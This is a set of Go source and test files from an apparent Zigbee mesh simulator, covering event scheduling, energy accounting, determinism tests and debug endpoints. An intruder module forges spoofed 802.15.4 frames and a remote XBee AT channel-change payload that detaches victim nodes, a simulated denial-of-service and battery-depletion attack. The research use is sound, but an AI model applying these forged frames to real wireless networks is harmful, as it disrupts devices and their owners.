		`wazabee_sim_heap_executed{driver="virtual"}`,
		`wazabee_sim_join_latency_seconds_bucket`,
		`wazabee_sim_retries_total`,
	} {
		if !strings.Contains(text, want) {
			t.Errorf("/metrics missing %s", want)
		}
	}
}

// TestDebugHandler drives the /debug/sim endpoint: full JSON snapshot,
// a single node's row, top-K selection and the text rendering.
func TestDebugHandler(t *testing.T) {
	var buf bytes.Buffer
	nw, err := New(Tree(1, 4), Config{Seed: 42, Registry: obs.NewRegistry(), TraceWriter: &buf})
	if err != nil {
		t.Fatal(err)
	}
	h := nw.DebugHandler()
	nw.Run(20 * time.Second)

	get := func(target string) *httptest.ResponseRecorder {
		t.Helper()
		rr := httptest.NewRecorder()
		h.ServeHTTP(rr, httptest.NewRequest("GET", target, nil))
		return rr
	}

	var snap Snapshot
	if err := json.Unmarshal(get("/debug/sim").Body.Bytes(), &snap); err != nil {
		t.Fatalf("snapshot JSON: %v", err)
	}
	if snap.VirtualTime != 20*time.Second || len(snap.Nodes) != 5 || snap.EnergyMicrojoules <= 0 {
		t.Fatalf("bad snapshot: t=%v nodes=%d energy=%v", snap.VirtualTime, len(snap.Nodes), snap.EnergyMicrojoules)
	}
	if len(snap.Links) == 0 {
		t.Fatal("snapshot has no links")
	}

	var one NodeStats
	if err := json.Unmarshal(get("/debug/sim?node=2").Body.Bytes(), &one); err != nil {
		t.Fatalf("node JSON: %v", err)
	}
	if one.ID != 2 {
		t.Fatalf("asked for node 2, got %d", one.ID)
	}
	if rr := get("/debug/sim?node=99"); rr.Code != 400 {
		t.Fatalf("out-of-range node: code %d, want 400", rr.Code)
	}

	var top Snapshot
	if err := json.Unmarshal(get("/debug/sim?top=2&sort=tx").Body.Bytes(), &top); err != nil {
		t.Fatalf("top JSON: %v", err)
	}
	if len(top.Nodes) != 2 || top.Nodes[0].Tx < top.Nodes[1].Tx {
		t.Fatalf("top-2 by tx wrong: %+v", top.Nodes)
	}

	if body := get("/debug/sim?format=text").Body.String(); !strings.Contains(body, "sim observatory") {
		t.Fatalf("text rendering missing header: %q", body)
	}
}

// TestDebugHandlerWithoutTelemetry checks the degraded mode: with the
// observatory off, /debug/sim still serves the global stats.
func TestDebugHandlerWithoutTelemetry(t *testing.T) {
	nw, err := New(Tree(1, 3), Config{Seed: 42, Registry: obs.NewRegistry()})
	if err != nil {
		t.Fatal(err)
	}
	h := nw.DebugHandler()
	nw.Run(10 * time.Second)
	rr := httptest.NewRecorder()
	h.ServeHTTP(rr, httptest.NewRequest("GET", "/debug/sim", nil))
	var snap Snapshot
	if err := json.Unmarshal(rr.Body.Bytes(), &snap); err != nil {
		t.Fatal(err)
	}
	if snap.Stats.Frames == 0 || len(snap.Nodes) != 0 {
		t.Fatalf("expected stats-only snapshot, got %+v", snap)
	}
}

// TestTraceAcceptanceScale is the ISSUE 8 acceptance check at full
// scale: the 1,111-node topology exports a trace whose sha256 is
// identical across two same-seed runs, with conservation holding.
func TestTraceAcceptanceScale(t *testing.T) {
	if testing.Short() {
		t.Skip("full-scale trace run")
	}
	topo := Tree(3, 10)
	run := func() (string, *Network) {
		h := sha256.New()
		nw, err := New(topo, Config{Seed: 42, Registry: obs.NewRegistry(), TraceWriter: h})
		if err != nil {
			t.Fatal(err)
		}
		nw.Run(60 * time.Second)
		if err := nw.CloseTrace(); err != nil {
			t.Fatal(err)
		}
		return hex.EncodeToString(h.Sum(nil)), nw
	}
	d1, nw := run()
	d2, _ := run()
	if d1 != d2 {
		t.Fatalf("same-seed 1k-node trace digests differ: %s vs %s", d1, d2)
	}
	elapsed := nw.Now()
	for _, ns := range nw.NodeStats() {
		var sum time.Duration
		for _, d := range ns.RadioTime {
			sum += d
		}
		if sum != elapsed {
			t.Fatalf("node %d: conservation violated at scale: %v != %v", ns.ID, sum, elapsed)
		}
	}
}
