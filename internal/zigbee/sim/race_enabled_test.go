//go:build race

package sim

// raceEnabled reports that the race detector is active: instrumentation
// slows the event loop by an order of magnitude, so wall-clock budget
// assertions must be skipped.
const raceEnabled = true
