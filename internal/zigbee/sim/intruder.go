package sim

import (
	"fmt"
	"math/rand"

	"wazabee/internal/ieee802154"
	"wazabee/internal/obs"
	"wazabee/internal/radio"
)

// IntruderSrc is the capture Src of attacker transmissions: an
// out-of-topology index no node ever occupies, so taps and observers can
// separate injected traffic from the mesh's own without deep-parsing
// every PSDU.
const IntruderSrc = -1

// Intruder is an out-of-topology attacker radio bolted onto a running
// mesh: it forges MAC frames and puts them on the victim's air without
// being a node — no CSMA, no queue, no energy ledger of its own. Its
// transmissions occupy the destination's collision domain (they corrupt
// concurrent victim frames and defer victim CCA like any carrier), pass
// through the same calibrated delivery channel, and surface in the
// capture stream with Src = IntruderSrc. Everything the victims do in
// response — acknowledgements, association responses, AT responses,
// retries against injected interference — runs on the ordinary MAC path
// and is charged to the victims' energy accountant, which is exactly
// the asymmetry energy-depletion attacks exploit.
//
// Determinism: the intruder only acts from callbacks scheduled on the
// network's event loop, its delivery draws follow the deliverySeed
// discipline, and its private stream derives from nodeSeed(seed,
// IntruderSrc); same-seed runs with the same attack schedule stay
// bit-identical at any event-batch size.
type Intruder struct {
	nw      *Network
	channel int
	rng     *rand.Rand
}

// NewIntruder attaches an attacker radio to the network on the given
// 802.15.4 channel. Create before Run, like taps and observers.
func (nw *Network) NewIntruder(channel int) (*Intruder, error) {
	f, err := ieee802154.ChannelFrequencyMHz(channel)
	if err != nil {
		return nil, err
	}
	if _, ok := nw.freq[channel]; !ok {
		nw.freq[channel] = f
	}
	return &Intruder{nw: nw, channel: channel, rng: nodeRand(nw.cfg.Seed, IntruderSrc)}, nil
}

// Rand exposes the intruder's private deterministic stream, for attack
// schedules that want jitter without touching any victim stream.
func (in *Intruder) Rand() *rand.Rand { return in.rng }

// Transmit puts a forged frame on the air now, addressed to the node
// with simulator index to. The transmission starts immediately — a real
// attacker gains nothing from listen-before-talk — and lasts the
// frame's on-air duration. It collides with any concurrent transmission
// whose receiver shares the destination cell, and is delivered through
// the network's fidelity tier when the target is tuned to the
// intruder's channel, idle, and the erasure draw passes. Set needAck to
// make the victim spend a transmission acknowledging the forgery.
//
// Call only from the goroutine driving the event loop (between Run
// calls or from scheduled callbacks).
func (in *Intruder) Transmit(to int, frame *ieee802154.MACFrame, needAck bool) error {
	nw := in.nw
	if to < 0 || to >= len(nw.nodes) {
		return fmt.Errorf("sim: intruder target %d out of range [0,%d)", to, len(nw.nodes))
	}
	psdu, err := frame.Encode()
	if err != nil {
		return err
	}
	rx := nw.nodes[to]
	destOwner := to
	if rx.spec.Role == RoleEndDevice {
		destOwner = rx.parentID
	}
	now := nw.sched.Now()
	nw.frameSeq++
	tx := &transmission{
		src:       IntruderSrc,
		channel:   in.channel,
		kind:      intruderKind(frame),
		frame:     frame,
		psdu:      psdu,
		mode:      targetNode,
		to:        to,
		seq:       nw.frameSeq,
		start:     now,
		end:       now + ieee802154.FrameDuration(len(psdu)),
		needAck:   needAck,
		destOwner: destOwner,
	}
	nw.cell(destOwner).add(destOwner, tx)
	nw.noteFrame(tx)
	nw.stats.Injected++
	nw.cInjected.Inc()
	nw.sched.At(tx.end, func() { in.txEnd(tx) })
	return nil
}

// txEnd is the intruder's counterpart of the node transmit-end path:
// take the frame off the air, publish the capture, and deliver it when
// it survived collision, deafness and the erasure draw. The attacker
// has no radio-state ledger, so only receiver-side telemetry is
// charged.
func (in *Intruder) txEnd(tx *transmission) {
	nw := in.nw
	nw.cell(tx.destOwner).remove(tx)
	now := nw.sched.Now()
	if tx.collided {
		nw.stats.Collisions++
		nw.cCollisions.Inc()
	}
	nw.publishCapture(tx)
	if tx.collided {
		return
	}
	rxID := tx.to
	rx := nw.nodes[rxID]
	if rx.spec.Channel != tx.channel {
		return // target tuned elsewhere; nothing hears the forgery
	}
	if rx.radioBusyUntil > tx.start {
		nw.stats.DeafMisses++
		nw.cDeaf.Inc()
		if t := nw.tel; t != nil {
			t.nodes[rxID].deaf++
			t.link(IntruderSrc, rxID).deaf++
		}
		return
	}
	f := nw.freq[tx.channel]
	outcome, err := nw.ch.Deliver(radio.FrameSpec{
		PSDULen:   len(tx.psdu),
		TxFreqMHz: f,
		RxFreqMHz: f,
		Link:      radio.Link{SNRdB: nw.cfg.SNRdB},
		Seed:      deliverySeed(nw.cfg.Seed, tx.seq, rxID),
	})
	if err != nil {
		panic(err) // the channel was validated at New; a Deliver error is a bug
	}
	if !outcome.Delivered() {
		nw.stats.Erasures++
		nw.cErasures.Inc()
		if t := nw.tel; t != nil {
			t.nodes[rxID].erasures++
			t.link(IntruderSrc, rxID).erasures++
		}
		return
	}
	if t := nw.tel; t != nil {
		t.nodes[rxID].rx++
		t.link(IntruderSrc, rxID).delivered++
		t.radioCharge(rxID, now, tx.end-tx.start, RadioRX)
	}
	nw.stats.InjectedDelivered++
	nw.cInjectedDelivered.Inc()
	nw.handleFrame(rx, tx)
}

// intruderKind classifies a forged frame for metrics and capture
// records, mirroring the kinds the MAC path assigns.
func intruderKind(frame *ieee802154.MACFrame) frameKind {
	switch frame.Type {
	case ieee802154.FrameBeacon:
		return kindBeacon
	case ieee802154.FrameAck:
		return kindAck
	case ieee802154.FrameCommand:
		if len(frame.Payload) > 0 {
			switch ieee802154.CommandID(frame.Payload[0]) {
			case ieee802154.CmdAssociationRequest:
				return kindAssocRequest
			case ieee802154.CmdAssociationResponse:
				return kindAssocResponse
			case ieee802154.CmdBeaconRequest:
				return kindBeaconRequest
			}
		}
	}
	return kindData
}

// The XBee remote AT command wire format (internal/zigbee's ATCommand;
// that package builds on this one, so the constants are mirrored here).
const (
	remoteATRequest  = 0x17
	remoteATResponse = 0x97
)

// remoteChannelChange decodes the remote AT "CH" payload the scenario B
// attack forges: frame type, frame ID, the two command letters and the
// one-octet new channel.
func remoteChannelChange(payload []byte) (newChannel int, frameID byte, ok bool) {
	if len(payload) != 5 || payload[0] != remoteATRequest {
		return 0, 0, false
	}
	if payload[2] != 'C' || payload[3] != 'H' {
		return 0, 0, false
	}
	return int(payload[4]), payload[1], true
}

// applyChannelChange executes a remote AT channel-change on the
// receiving node — the scenario B channel-migration denial of service.
// The node obeys its (spoofed) coordinator: it answers with an AT
// response towards its parent, then retunes, which detaches it from the
// PAN — nothing on the old channel reaches it again, and it stops
// reporting. Coordinators ignore remote retunes of their own network.
func (nw *Network) applyChannelChange(r *node, frameID byte, newChannel int) {
	if r.spec.Role == RoleCoordinator || r.state != stateJoined {
		return
	}
	if newChannel < ieee802154.FirstChannel || newChannel > ieee802154.LastChannel || newChannel == r.spec.Channel {
		return
	}
	r.seq++
	resp := []byte{remoteATResponse, frameID, 'C', 'H', 0x00}
	frame := ieee802154.NewDataFrame(r.seq, r.pan, r.parentShort, r.short, resp, false)
	nw.enqueueTx(r, &outgoing{kind: kindData, frame: frame, mode: targetNode, to: r.parentID})
	r.state = stateIdle
	nw.stats.Joined--
	nw.stats.ChannelMigrations++
	nw.cMigrations.Inc()
	nw.noteJoinedGauge()
	nw.flight.Record(obs.FlightEvent{
		Kind: "state", Component: "sim", Frame: -1,
		Detail: fmt.Sprintf("channel migration: node %d retuned %d -> %d by remote AT", r.id, r.spec.Channel, newChannel),
	})
	if t := nw.tel; t != nil && t.trace != nil {
		t.trace.instant(r.id, "channel_migration", nw.sched.Now(), 0)
	}
}
