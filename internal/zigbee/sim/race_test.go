package sim

import (
	"sync"
	"testing"
	"time"

	"wazabee/internal/obs"
)

// TestSimConcurrentObservers is the `make racesim` workload: several
// observers on multiple channels drain concurrently with the event loop
// while another goroutine polls the health registry and a stats reader
// snapshots between batches — the full concurrency surface of the
// simulator under the race detector.
func TestSimConcurrentObservers(t *testing.T) {
	topo := Topology{Nodes: []NodeSpec{
		{Role: RoleCoordinator, Parent: -1, Channel: 14, PAN: 0x1111},
		{Role: RoleCoordinator, Parent: -1, Channel: 20, PAN: 0x2222},
	}}
	for i := 0; i < 12; i++ {
		parent, channel, pan := 0, 14, uint16(0x1111)
		if i%2 == 1 {
			parent, channel, pan = 1, 20, 0x2222
		}
		topo.Nodes = append(topo.Nodes, NodeSpec{Role: RoleEndDevice, Parent: parent, Channel: channel, PAN: pan})
	}
	reg := obs.NewRegistry()
	h := obs.NewHealth(reg)
	nw, err := New(topo, Config{Seed: 5, Registry: reg})
	if err != nil {
		t.Fatal(err)
	}
	nw.RegisterHealth(h)

	// Small buffers on purpose: the event loop must block on sends and
	// resume, repeatedly, while consumers run on other goroutines.
	var consumers sync.WaitGroup
	counts := make([]uint64, 4)
	for i, ch := range []int{14, 14, 20, 20} {
		i := i
		o := nw.Observe(ch, 2)
		consumers.Add(1)
		go func() {
			defer consumers.Done()
			for range o.C() {
				counts[i]++
			}
		}()
	}

	healthDone := make(chan struct{})
	runDone := make(chan struct{})
	go func() {
		defer close(healthDone)
		for {
			select {
			case <-runDone:
				return
			default:
				h.Check()
			}
		}
	}()

	go func() {
		defer close(runDone)
		for at := time.Second; at <= 30*time.Second; at += time.Second {
			nw.Run(at)
			_ = nw.Stats()
		}
	}()
	<-runDone
	<-healthDone
	nw.CloseObservers()
	consumers.Wait()

	frames := nw.Stats().Frames
	if frames == 0 {
		t.Fatal("no frames simulated")
	}
	for i, c := range counts {
		if c == 0 {
			t.Fatalf("observer %d saw no captures", i)
		}
	}
	if counts[0] != counts[1] || counts[2] != counts[3] {
		t.Fatalf("same-channel observers diverged: %v", counts)
	}
	if counts[0]+counts[2] != frames {
		t.Fatalf("per-channel observer totals %d+%d != frames %d", counts[0], counts[2], frames)
	}
}
