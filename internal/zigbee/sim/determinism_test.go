package sim

import (
	"testing"
	"time"
)

// digestRun simulates topo for virtualFor, advancing the clock in
// batchSize steps, and returns the capture digest of every channel the
// topology uses plus the frame count.
func digestRun(t *testing.T, topo Topology, seed int64, virtualFor, batchSize time.Duration) (string, uint64) {
	t.Helper()
	nw, err := New(topo, Config{Seed: seed})
	if err != nil {
		t.Fatal(err)
	}
	rec := NewDigestRecorder()
	channels := map[int]bool{}
	for _, n := range topo.Nodes {
		if !channels[n.Channel] {
			channels[n.Channel] = true
			nw.Tap(n.Channel, rec.Record)
		}
	}
	if batchSize <= 0 {
		nw.Run(virtualFor)
	} else {
		for at := batchSize; at < virtualFor; at += batchSize {
			nw.Run(at)
		}
		nw.Run(virtualFor)
	}
	return rec.Sum(), rec.Frames()
}

// TestSimDeterministicAcrossRuns pins the headline determinism claim:
// two same-seed runs produce byte-identical capture sequences.
func TestSimDeterministicAcrossRuns(t *testing.T) {
	a, na := digestRun(t, Tree(2, 5), 42, 30*time.Second, 0)
	b, nb := digestRun(t, Tree(2, 5), 42, 30*time.Second, 0)
	if na == 0 {
		t.Fatal("run produced no captures")
	}
	if a != b || na != nb {
		t.Fatalf("same-seed digests differ: %s (%d frames) vs %s (%d frames)", a, na, b, nb)
	}
}

// TestSimDeterministicOrderIndependent pins batch-size independence: the
// capture sequence cannot depend on how Run calls slice virtual time.
func TestSimDeterministicOrderIndependent(t *testing.T) {
	ref, nref := digestRun(t, Tree(2, 5), 42, 30*time.Second, 0)
	for _, batch := range []time.Duration{time.Millisecond, 137 * time.Millisecond, time.Second} {
		got, n := digestRun(t, Tree(2, 5), 42, 30*time.Second, batch)
		if got != ref || n != nref {
			t.Fatalf("batch %v digest %s (%d frames) != one-shot %s (%d frames)", batch, got, n, ref, nref)
		}
	}
}

// TestSimSeedsDiverge guards against a degenerate oracle: different
// seeds must produce different traffic.
func TestSimSeedsDiverge(t *testing.T) {
	a, _ := digestRun(t, Tree(2, 5), 42, 30*time.Second, 0)
	b, _ := digestRun(t, Tree(2, 5), 43, 30*time.Second, 0)
	if a == b {
		t.Fatal("seeds 42 and 43 produced identical capture digests")
	}
}

// TestSimThousandNodeAcceptance is the scale contract from the roadmap:
// a seeded 1,000-node mesh (Tree(3,10): 1111 nodes) simulates 60
// virtual seconds of 2-second beacon cadence inside the wall-clock
// budget, producing tens of thousands of frames, and two same-seed runs
// are byte-identical.
func TestSimThousandNodeAcceptance(t *testing.T) {
	topo := Tree(3, 10)
	run := func() (string, uint64, Stats, time.Duration) {
		nw, err := New(topo, Config{Seed: 42})
		if err != nil {
			t.Fatal(err)
		}
		rec := NewDigestRecorder()
		nw.Tap(DefaultChannel, rec.Record)
		start := time.Now()
		nw.Run(60 * time.Second)
		return rec.Sum(), rec.Frames(), nw.Stats(), time.Since(start)
	}
	d1, n1, stats, wall1 := run()
	d2, n2, _, _ := run()

	if d1 != d2 || n1 != n2 {
		t.Fatalf("same-seed 1k-node runs differ: %s (%d) vs %s (%d)", d1, n1, d2, n2)
	}
	if n1 <= 25000 {
		t.Fatalf("produced %d frames, want > 25000", n1)
	}
	if stats.VirtualTime != 60*time.Second {
		t.Fatalf("virtual time = %v, want 60s", stats.VirtualTime)
	}
	if joined := stats.Joined; joined < stats.Nodes*9/10 {
		t.Fatalf("only %d/%d nodes joined", joined, stats.Nodes)
	}
	if !raceEnabled && wall1 > 5*time.Second {
		t.Fatalf("60 virtual seconds took %v wall, budget 5s", wall1)
	}
}
