package sim

import (
	"testing"
	"time"

	"wazabee/internal/ieee802154"
)

func TestNewIntruderValidation(t *testing.T) {
	nw, err := New(Star(2), Config{Seed: 1})
	if err != nil {
		t.Fatal(err)
	}
	if _, err := nw.NewIntruder(10); err == nil {
		t.Error("channel 10 (below the 802.15.4 band) accepted")
	}
	if _, err := nw.NewIntruder(27); err == nil {
		t.Error("channel 27 (above the 802.15.4 band) accepted")
	}
	if _, err := nw.NewIntruder(DefaultChannel); err != nil {
		t.Errorf("valid channel rejected: %v", err)
	}
}

func TestIntruderInjectionCounted(t *testing.T) {
	nw, err := New(Star(2), Config{Seed: 5})
	if err != nil {
		t.Fatal(err)
	}
	intr, err := nw.NewIntruder(DefaultChannel)
	if err != nil {
		t.Fatal(err)
	}
	// Let the mesh form, then inject a spoofed reading at the
	// coordinator from a fake source address.
	nw.Run(10 * time.Second)
	coord := nw.Node(0)
	frame := ieee802154.NewDataFrame(1, coord.PAN, coord.Short, 0x7777,
		[]byte{0x77, 1, 2, 0}, true)
	if err := intr.Transmit(0, frame, true); err != nil {
		t.Fatal(err)
	}
	nw.Run(11 * time.Second)
	stats := nw.Stats()
	if stats.Injected != 1 {
		t.Errorf("Injected = %d, want 1", stats.Injected)
	}
	if stats.InjectedDelivered != 1 {
		t.Errorf("InjectedDelivered = %d, want 1", stats.InjectedDelivered)
	}
}

func TestIntruderChannelMigrationDetaches(t *testing.T) {
	nw, err := New(Star(2), Config{Seed: 5})
	if err != nil {
		t.Fatal(err)
	}
	intr, err := nw.NewIntruder(DefaultChannel)
	if err != nil {
		t.Fatal(err)
	}
	nw.Run(10 * time.Second)
	victim := nw.Node(1)
	if !victim.Joined {
		t.Fatal("victim did not associate during warmup")
	}
	coord := nw.Node(0)
	// The forged remote AT retune, spoofing the coordinator as source.
	frame := ieee802154.NewDataFrame(9, victim.PAN, victim.Short, coord.Short,
		[]byte{remoteATRequest, 9, 'C', 'H', 26}, true)
	if err := intr.Transmit(1, frame, true); err != nil {
		t.Fatal(err)
	}
	nw.Run(11 * time.Second)
	if nw.Node(1).Joined {
		t.Error("victim still joined after forged retune")
	}
	if got := nw.Stats().ChannelMigrations; got != 1 {
		t.Errorf("ChannelMigrations = %d, want 1", got)
	}
}

func TestRemoteChannelChangeParsing(t *testing.T) {
	cases := []struct {
		name    string
		payload []byte
		ok      bool
		channel int
	}{
		{"valid", []byte{remoteATRequest, 3, 'C', 'H', 20}, true, 20},
		{"wrong frame type", []byte{0x10, 3, 'C', 'H', 20}, false, 0},
		{"wrong command", []byte{remoteATRequest, 3, 'I', 'D', 20}, false, 0},
		{"short", []byte{remoteATRequest, 3, 'C', 'H'}, false, 0},
		{"long", []byte{remoteATRequest, 3, 'C', 'H', 20, 0}, false, 0},
		{"empty", nil, false, 0},
	}
	for _, tc := range cases {
		t.Run(tc.name, func(t *testing.T) {
			ch, frameID, ok := remoteChannelChange(tc.payload)
			if ok != tc.ok {
				t.Fatalf("ok = %v, want %v", ok, tc.ok)
			}
			if ok && (ch != tc.channel || frameID != 3) {
				t.Errorf("parsed (channel %d, frameID %d), want (%d, 3)", ch, frameID, tc.channel)
			}
		})
	}
}

func TestIntruderDoesNotPerturbCleanRun(t *testing.T) {
	// Building an intruder that never transmits must leave the run
	// byte-identical to an intruder-free one — the guards in the MAC
	// hot path are no-ops until a frame is actually forged.
	digest := func(withIntruder bool) string {
		nw, err := New(Star(3), Config{Seed: 21})
		if err != nil {
			t.Fatal(err)
		}
		rec := NewDigestRecorder()
		nw.Tap(DefaultChannel, rec.Record)
		if withIntruder {
			if _, err := nw.NewIntruder(DefaultChannel); err != nil {
				t.Fatal(err)
			}
		}
		nw.Run(20 * time.Second)
		return rec.Sum()
	}
	if a, b := digest(false), digest(true); a != b {
		t.Errorf("idle intruder perturbed the run: %s vs %s", a, b)
	}
}
