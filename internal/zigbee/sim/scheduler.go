// Package sim is the virtual-time discrete-event simulator behind the
// campaign-scale Zigbee scenarios: a min-heap of timed events driven by
// a virtual clock, node actors running 802.15.4 MAC state machines
// (beaconing, association, CSMA-CA, acknowledgements, PAN-ID conflict
// resolution), and a shared per-channel medium whose frame-level
// deliveries come from radio.Medium.DeliverVirtual. A 2-second sensor
// cadence costs nanoseconds of wall time per period instead of 2
// seconds, so thousand-node meshes simulate minutes of traffic per
// wall-clock second.
//
// Determinism is the load-bearing property: every random draw flows from
// splitmix64-derived per-node streams (the Monte-Carlo runner's seed
// discipline), event ties break on insertion order, and deliveries never
// touch a shared random stream — so two runs with the same seed produce
// byte-identical capture sequences at any event-batch size, which is
// what lets capture digests act as regression oracles.
//
// zigbee.LiveNetwork rides the same event core: its real-time reporting
// loop is a Scheduler driven by a Pacer that sleeps until each event's
// wall deadline, making real-time operation a pacing policy rather than
// a separate code path.
package sim

import (
	"fmt"
	"time"
)

// event is one scheduled callback. seq is the insertion sequence number:
// events at the same virtual instant execute in scheduling order, which
// makes the pop order total and the simulation deterministic regardless
// of heap internals.
type event struct {
	at  time.Duration
	seq uint64
	fn  func()
}

// before is the heap ordering: earlier time first, earlier insertion
// breaking ties.
func (e event) before(o event) bool {
	if e.at != o.at {
		return e.at < o.at
	}
	return e.seq < o.seq
}

// Scheduler is the virtual-time event queue: a hand-rolled binary
// min-heap of events plus the virtual clock, which only ever moves
// forward to the timestamp of the event being executed. It is not safe
// for concurrent use — the simulation is single-threaded by design and
// concurrency lives at the observer boundary (see Network.Observe).
type Scheduler struct {
	heap []event
	now  time.Duration
	seq  uint64

	executed uint64
	maxDepth int

	// maxLag is the high-water mark of how far behind its deadline an
	// event executed, in wall time. The virtual driver never lags (the
	// clock jumps to each event); the Pacer records real lateness here.
	maxLag time.Duration
}

// NewScheduler returns an empty scheduler at virtual time zero.
func NewScheduler() *Scheduler {
	return &Scheduler{}
}

// Now returns the current virtual time.
func (s *Scheduler) Now() time.Duration { return s.now }

// Len returns the number of pending events.
func (s *Scheduler) Len() int { return len(s.heap) }

// Executed returns how many events have run.
func (s *Scheduler) Executed() uint64 { return s.executed }

// MaxDepth returns the heap-depth high-water mark.
func (s *Scheduler) MaxDepth() int { return s.maxDepth }

// MaxLag returns the worst observed wall-time lateness of an event
// (always zero under the virtual driver).
func (s *Scheduler) MaxLag() time.Duration { return s.maxLag }

// noteLag records a wall-time execution lateness (called by the Pacer).
// It reports whether the lag is a new high-water mark.
func (s *Scheduler) noteLag(lag time.Duration) bool {
	if lag > s.maxLag {
		s.maxLag = lag
		return true
	}
	return false
}

// At schedules fn at virtual time t. Scheduling in the past is clamped
// to now: the event runs next, after already-pending events at the same
// instant.
func (s *Scheduler) At(t time.Duration, fn func()) {
	if fn == nil {
		panic("sim: nil event callback")
	}
	if t < s.now {
		t = s.now
	}
	s.seq++
	s.heap = append(s.heap, event{at: t, seq: s.seq, fn: fn})
	s.up(len(s.heap) - 1)
	if len(s.heap) > s.maxDepth {
		s.maxDepth = len(s.heap)
	}
}

// After schedules fn d from now; negative d is clamped to now.
func (s *Scheduler) After(d time.Duration, fn func()) {
	s.At(s.now+d, fn)
}

// peek returns the next event without popping; ok is false when the
// queue is empty.
func (s *Scheduler) peek() (event, bool) {
	if len(s.heap) == 0 {
		return event{}, false
	}
	return s.heap[0], true
}

// NextAt returns the virtual deadline of the next pending event; ok is
// false when the queue is empty.
func (s *Scheduler) NextAt() (time.Duration, bool) {
	ev, ok := s.peek()
	return ev.at, ok
}

// Step pops and executes the next event, advancing the clock to its
// timestamp. It reports false when the queue is empty.
func (s *Scheduler) Step() bool {
	ev, ok := s.peek()
	if !ok {
		return false
	}
	s.pop()
	s.now = ev.at
	s.executed++
	ev.fn()
	return true
}

// RunUntil executes every event due at or before t, then advances the
// clock to t. It returns the number of events executed. Because the
// clock only ever moves to each event's own timestamp before its
// callback runs, splitting one RunUntil(t) into any sequence of smaller
// advances executes the identical event sequence — the batch-size
// independence the determinism tests pin down.
func (s *Scheduler) RunUntil(t time.Duration) uint64 {
	if t < s.now {
		return 0
	}
	var n uint64
	for {
		ev, ok := s.peek()
		if !ok || ev.at > t {
			break
		}
		s.Step()
		n++
	}
	s.now = t
	return n
}

// Drain discards all pending events (shutdown path).
func (s *Scheduler) Drain() {
	s.heap = s.heap[:0]
}

// String summarises the scheduler state for diagnostics.
func (s *Scheduler) String() string {
	return fmt.Sprintf("sim: t=%v pending=%d executed=%d depth_max=%d",
		s.now, len(s.heap), s.executed, s.maxDepth)
}

// up restores the heap property from index i towards the root.
func (s *Scheduler) up(i int) {
	for i > 0 {
		parent := (i - 1) / 2
		if s.heap[parent].before(s.heap[i]) {
			return
		}
		s.heap[parent], s.heap[i] = s.heap[i], s.heap[parent]
		i = parent
	}
}

// pop removes the root, restoring the heap property downwards.
func (s *Scheduler) pop() {
	last := len(s.heap) - 1
	s.heap[0] = s.heap[last]
	s.heap[last] = event{} // release the callback
	s.heap = s.heap[:last]
	i := 0
	for {
		l, r := 2*i+1, 2*i+2
		smallest := i
		if l < last && s.heap[l].before(s.heap[smallest]) {
			smallest = l
		}
		if r < last && s.heap[r].before(s.heap[smallest]) {
			smallest = r
		}
		if smallest == i {
			return
		}
		s.heap[i], s.heap[smallest] = s.heap[smallest], s.heap[i]
		i = smallest
	}
}
