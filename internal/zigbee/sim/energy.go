package sim

import (
	"fmt"
	"time"
)

// The radio energy accountant tracks each node's radio state machine in
// virtual time and integrates state durations against a per-chip
// current-draw table into per-node energy totals — the "energy drained"
// score the campaign engine needs for depletion attacks (forced
// retransmission, sleep deprivation), where the damage is measured in
// microjoules rather than frames.
//
// The accountant is purely observational: it never draws randomness and
// never schedules events, so enabling it cannot perturb the capture
// sequence. Durations are charged to the state the radio was in when
// virtual time passed; the invariant the conservation test pins down is
// that each node's state durations sum exactly to the virtual elapsed
// time — no instant is double-counted or dropped.

// RadioState is one state of a node's radio state machine.
type RadioState uint8

const (
	// RadioIdle is the radio listening with no frame in the air for it —
	// the "RX on when idle" baseline every association capability in the
	// mesh advertises.
	RadioIdle RadioState = iota
	// RadioRX is the radio locked to and demodulating a frame.
	RadioRX
	// RadioTX is the radio transmitting.
	RadioTX
	// RadioCCA is the clear-channel assessment window: the receiver
	// measuring channel power ahead of a CSMA-CA transmission.
	RadioCCA
	// RadioTurnaround is the RX/TX switch: synthesizer settling between
	// a passed CCA and the transmission, or ahead of an acknowledgement.
	RadioTurnaround

	// NumRadioStates sizes per-state arrays.
	NumRadioStates = int(RadioTurnaround) + 1
)

// String implements fmt.Stringer, doubling as the metric label and trace
// slice name.
func (s RadioState) String() string {
	switch s {
	case RadioIdle:
		return "idle"
	case RadioRX:
		return "rx"
	case RadioTX:
		return "tx"
	case RadioCCA:
		return "cca"
	case RadioTurnaround:
		return "turnaround"
	default:
		return fmt.Sprintf("state(%d)", uint8(s))
	}
}

// EnergyProfile is a per-chip current-draw table: the radio current in
// each state at the profile's supply voltage. The two built-in profiles
// mirror the BLE-chip framing of the source paper — the same silicon the
// attack diverts is the silicon whose batteries a depletion campaign
// drains.
type EnergyProfile struct {
	// Name identifies the profile ("cc2652", "nrf52840").
	Name string
	// VoltageV is the supply voltage the currents are quoted at.
	VoltageV float64
	// CurrentMA is the state current draw in milliamps, indexed by
	// RadioState.
	CurrentMA [NumRadioStates]float64
}

// ProfileCC2652 is a TI CC2652R-style profile (3.0 V): 6.9 mA RX,
// 7.3 mA TX at 0 dBm, with the RX chain also powering idle listening and
// CCA, and a reduced synthesizer-settling draw during turnaround.
func ProfileCC2652() EnergyProfile {
	p := EnergyProfile{Name: "cc2652", VoltageV: 3.0}
	p.CurrentMA[RadioIdle] = 6.9
	p.CurrentMA[RadioRX] = 6.9
	p.CurrentMA[RadioTX] = 7.3
	p.CurrentMA[RadioCCA] = 6.9
	p.CurrentMA[RadioTurnaround] = 3.2
	return p
}

// ProfileNRF52840 is a Nordic nRF52840-style profile (3.0 V, DC/DC):
// 4.8 mA in RX and TX at 0 dBm, 2.6 mA during turnaround.
func ProfileNRF52840() EnergyProfile {
	p := EnergyProfile{Name: "nrf52840", VoltageV: 3.0}
	p.CurrentMA[RadioIdle] = 4.8
	p.CurrentMA[RadioRX] = 4.8
	p.CurrentMA[RadioTX] = 4.8
	p.CurrentMA[RadioCCA] = 4.8
	p.CurrentMA[RadioTurnaround] = 2.6
	return p
}

// ProfileByName resolves a chip name to its current-draw profile.
func ProfileByName(name string) (EnergyProfile, error) {
	switch name {
	case "", "cc2652":
		return ProfileCC2652(), nil
	case "nrf52840":
		return ProfileNRF52840(), nil
	default:
		return EnergyProfile{}, fmt.Errorf("sim: unknown energy profile %q (want cc2652 or nrf52840)", name)
	}
}

// Microjoules integrates a set of state durations against the profile:
// µJ = V · I(state) · t, summed over states.
